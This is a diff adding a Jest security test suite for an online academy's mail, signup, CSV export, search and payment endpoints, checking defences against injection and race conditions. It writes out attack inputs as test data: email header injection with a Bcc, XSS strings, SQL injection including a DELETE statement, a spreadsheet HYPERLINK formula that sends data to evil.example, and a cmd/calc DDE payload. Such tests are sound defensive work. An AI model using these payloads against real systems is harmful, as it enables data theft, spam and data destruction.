@@ -1,0 +1,222 @@
+import { AcademyUnderAttack, type Person } from './academy-under-attack.js';
+import { aScene, made, type Scene } from './scene.js';
+
+const BCC = 'Mallory\r\nBcc: victim@evil.example\r\nContent-Type: text/html\r\n\r\n<b>pay here</b>';
+
+describe('ASVS V1 Encoding and Sanitization', () => {
+  let academy: AcademyUnderAttack;
+  let scene: Scene;
+
+  beforeAll(async () => {
+    academy = await AcademyUnderAttack.start({ worker: true });
+    scene = await aScene(academy);
+    await academy.drainQueues();
+  });
+  afterAll(() => academy?.stop());
+
+  describe('V1.3: what people write gets into mails as text', () => {
+    it.each<[string, () => Promise<unknown>]>([
+      ['a name at sign-up', () => academy.learner({ fullName: BCC })],
+      ['a ticket', () => scene.owner.as.post('/api/support', { type: 'other', message: BCC })],
+      ['a reply', () => scene.owner.as.post(`/api/support/${scene.ticketId}/comments`, { message: BCC })],
+      [
+        "an administrator's reason",
+        () =>
+          academy.administrator.as.post(`/api/payments/manual-payments/${scene.paymentId}/reject`, {
+            reason: BCC,
+          }),
+      ],
+      [
+        'a name at checkout',
+        async () => {
+          const learner = await academy.learner({ fullName: BCC });
+          await learner.as.post(`/api/payments/checkout/${scene.course.id}`, {
+            name: BCC,
+            email: learner.email,
+          });
+          await learner.as.post(`/api/payments/submit/${scene.course.id}`, {
+            transaction_id: BCC.slice(0, 90),
+          });
+        },
+      ],
+    ])('%s with a header in it adds none, and goes to nobody else', async (_what, write) => {
+      academy.mails.mails.length = 0;
+      await write();
+      await academy.drainQueues();
+      expect(academy.mails.mails.length).toBeGreaterThan(0);
+      for (const mail of academy.mails.mails) {
+        expect(mail.recipients).not.toContain('victim@evil.example');
+        expect(mail.headers.map(({ key }) => key)).not.toContain('bcc');
+        expect(mail.subject).not.toMatch(/[\r\n]/);
+        expect(mail.html).not.toContain('<b>pay here</b>');
+      }
+    });
+
+    it('markup of a name or a message is shown, not obeyed', async () => {
+      academy.mails.mails.length = 0;
+      const { as } = await academy.learner({ fullName: '<img/src=x/onerror=alert(1)> Mallory' });
+      await as.post('/api/support', {
+        type: 'other',
+        message: '<a href="https://evil.example">Click here</a><script>alert(1)</script>',
+      });
+      await academy.drainQueues();
+      for (const mail of academy.mails.mails)
+        expect(mail.html).not.toMatch(/<img\/src|<script|href="https:\/\/evil/);
+    });
+  });
+
+  it.each([
+    '\u202Eelgoog.moc',
+    'Asha\u200B Menon',
+    'Asha\u2066 Menon\u2069',
+    'Asha\u00AD Menon',
+    'Asha\u3164 Menon',
+    'Asha\u{E0041} Menon',
+    '\x1B[2JAsha Menon',
+    'Asha\u061C Menon',
+    'Asha\u034F Menon',
+    'Asha\r\nMenon',
+  ])('V1.2: the name %j is kept without what makes it look like another', async (name) => {
+    const { id } = await academy.learner({ fullName: name });
+    const [row] = await academy.sql<{ full_name: string }>('SELECT full_name FROM users WHERE id = $1', [id]);
+    expect(row!.full_name).toMatch(/^(elgoog\.moc|(\[2J)?Asha Menon)$/);
+  });
+
+  it.each(['\u200B\u200D\u2060', '\u3164\u115F', '\u2800\u2800', '\u{E0020}\u{E0041}', '\u00AD', '   \t\n'])(
+    'V1.2: %j is no name',
+    async (name) => {
+      const answer = await academy.stranger.post('/api/auth/v1/signup', {
+        full_name: name,
+        email: 'blank@example.com',
+        password: 'correct horse battery',
+      });
+      expect(answer.body).toMatchObject({
+        statusCode: 400,
+        details: [{ field: 'full_name', message: 'Please enter your full name' }],
+      });
+    },
+  );
+
+  describe('V1.2: a spreadsheet runs nothing of what learners wrote', () => {
+    let learner: Person;
+    const FORMULAS = [
+      '=HYPERLINK("http://evil.example?"&A1,"x")',
+      "+cmd|' /C calc'!A0",
+      '-2+3+cmd',
+      '@SUM(1+1)',
+      '=1+1;=1+1',
+      '"=1+1"',
+      "'=1+1",
+      '\uFF1D1+1',
+    ];
+
+    it.each(FORMULAS)('%s', async (formula) => {
+      learner = await academy.learner({ fullName: formula });
+      await learner.as.post(`/api/payments/checkout/${scene.course.id}`, {
+        name: formula,
+        email: learner.email,
+      });
+      await learner.as.post(`/api/payments/submit/${scene.course.id}`, {
+        transaction_id: formula.slice(0, 100),
+      });
+      made(
+        await academy.administrator.as.post(`/api/admin/courses/${scene.otherCourse.id}/enrollments`, {
+          email: learner.email,
+          reason: formula,
+        }),
+      );
+      for (const file of ['payments', 'enrolments', 'coupon-usages']) {
+        const answer = await academy.administrator.as.get(`/api/admin/exports/${file}.csv`);
+        expect(answer.status).toBe(200);
+        expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+        expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w-]+\.csv"$/);
+        const cells = [...answer.text.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell]) =>
+          cell!.replaceAll('""', '"'),
+        );
+        if (file === 'payments') expect(cells.join()).toContain(formula);
+        for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
+      }
+    });
+  });
+
+  describe('V1.2: searching is looking for that text', () => {
+    it.each([
+      '%',
+      '_',
+      '\\',
+      "'",
+      "' OR '1'='1",
+      '%%%%%%%%',
+      '.*',
+      '$1',
+      ':pattern',
+      '\\%',
+      "');DELETE FROM users;--",
+    ])('%j finds nobody whose name has it not', async (text) => {
+      for (const list of [
+        '/api/admin/learners',
+        '/api/payments/manual-payments',
+        '/api/support/admin/all',
+        '/api/auth/v1/courses',
+        '/api/admin/courses',
+      ]) {
+        const answer = await academy.administrator.as.get(`${list}?q=${encodeURIComponent(text)}`);
+        expect(answer.status).toBe(200);
+        for (const row of answer.body as object[])
+          expect(JSON.stringify(row).toLowerCase()).toContain(
+            JSON.stringify(text).slice(1, -1).toLowerCase(),
+          );
+      }
+      expect((await academy.sql('SELECT FROM users')).length).toBeGreaterThan(2);
+    });
+
+    it('a pattern that would take for ever takes no longer than another', async () => {
+      const answer = await academy.administrator.as.get(
+        `/api/admin/learners?q=${encodeURIComponent('a%'.repeat(100))}`,
+      );
+      expect([answer.status, answer.body]).toEqual([200, []]);
+    });
+  });
+
+  it('V1.2: nothing that a learner writes gets into the link that opens a payment app, nor into the code drawn of it', async () => {
+    const learner = await academy.learner({ fullName: 'x&pa=mallory@okbank&am=1.00' });
+    const answer = await learner.as.post(`/api/payments/checkout/${scene.course.id}`, {
+      name: 'x&pa=mallory@okbank&am=1.00',
+      email: learner.email,
+    });
+    const { upi_link: link } = answer.body as { upi_link: string };
+    const query = new URLSearchParams(link.split('?')[1]);
+    expect([query.getAll('pa'), query.getAll('am')]).toEqual([['academy@okbank'], ['4999.00']]);
+  });
+
+  it('V2.3: a price is paid once: fifty submissions at once make one payment', async () => {
+    const { as, id } = await academy.learner();
+    const answers = await Promise.all(
+      Array.from({ length: 50 }, (_, one) =>
+        as.post(`/api/payments/submit/${scene.course.id}`, { transaction_id: `RACE${one}` }),
+      ),
+    );
+    expect(answers.filter(({ status }) => status === 201)).toHaveLength(1);
+    expect(answers.filter(({ status }) => status === 409)).toHaveLength(49);
+    expect(await academy.sql('SELECT FROM payments WHERE user_id = $1', [id])).toHaveLength(1);
+  });
+
+  it('API6:2023: the last use of a coupon is not taken twice, however many ask at once', async () => {
+    made(
+      await academy.administrator.as.post('/api/payments/coupons', {
+        code: 'ONCE',
+        percent_off: 100,
+        max_uses: 1,
+      }),
+    );
+    const buyers: Person[] = [];
+    for (let one = 0; one < 8; one += 1) buyers.push(await academy.learner());
+    const answers = await Promise.all(
+      buyers.map(({ as, email }) =>
+        as.post(`/api/payments/checkout/${scene.course.id}`, { name: 'Eve', email, coupon: 'once' }),
+      ),
+    );
+    expect(answers.filter(({ status }) => status === 201)).toHaveLength(1);
+    expect(answers.filter(({ status }) => status === 400)).toHaveLength(7);
+  });
+});
